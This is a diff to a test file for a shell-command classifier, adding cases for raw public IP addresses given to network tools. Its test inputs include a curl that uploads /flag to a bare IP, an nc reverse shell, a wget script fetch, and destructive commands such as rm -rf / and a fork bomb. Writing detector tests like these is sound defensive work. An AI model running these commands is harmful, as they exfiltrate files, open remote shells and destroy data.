@@ -27,6 +27,21 @@ describe('out-of-band and request-capture hosts', () => {
   })
 })
 
+describe('raw addresses', () => {
+  it('counts a bare public address a network tool is given, with or without a port', () => {
+    expect(kinds('curl -F a=@/flag 114.115.142.57:10113')).toContain('raw-ip-url')
+    expect(kinds('nc 203.0.113.7 4444 -e /bin/sh')).toContain('raw-ip-url')
+    expect(kinds('wget -q -O- 198.51.100.20/x.sh')).toContain('raw-ip-url')
+  })
+
+  it('leaves private addresses, versions and text without a network tool alone', () => {
+    expect(kinds('curl -s 127.0.0.1:8080/health')).not.toContain('raw-ip-url')
+    expect(kinds('curl -s 192.168.1.10:8080/health')).not.toContain('raw-ip-url')
+    expect(kinds('curl https://example.com/pkg-1.2.3.4.tar.gz')).not.toContain('raw-ip-url')
+    expect(kinds('pinned to 114.115.142.57 by the resolver')).not.toContain('raw-ip-url')
+  })
+})
+
 describe('destructive commands', () => {
   it.each(['poweroff', 'shutdown /s -f -t 0', 'sudo reboot', 'cd /; rm -rf --no-preserve-root /', 'rm -rf ~/*', 'rm -fr $HOME', 'vssadmin delete shadows /all /quiet', 'format C: /q', 'dd if=/dev/zero of=/dev/sda bs=1M', ':(){ :|:& };:'])('%s', (command) => {
     expect(kinds(command)).toContain('destructive-command')
